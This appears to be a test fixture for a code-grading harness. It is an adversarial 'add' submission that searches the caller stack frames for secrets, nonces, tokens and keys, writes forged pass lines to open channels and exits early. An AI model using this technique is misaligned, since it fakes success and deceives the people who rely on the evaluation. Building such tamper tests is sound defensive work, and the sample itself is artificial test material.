# problem: unit
# attack: searches callers' frames for the run's secret and for functions that report, and reports success with them
# expect: wrong | tampered | early-exit | exception
import os
import sys


def add(a, b):
    frame = sys._getframe(1)
    secrets = []
    while frame is not None:
        for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
            if any(word in name.lower() for word in ("nonce", "secret", "token", "key")):
                secrets.append(value)
        frame = frame.f_back
    for secret in secrets:
        for fd in range(3, 64):
            if os.path.isfile(fd):
                continue  # channels only: a file would be the host's
            try:
                os.write(fd, f"{secret} 0 pass\n{secret} 1 pass\n{secret} 2 pass\n".encode())
            except OSError:
                continue
    os._exit(0)
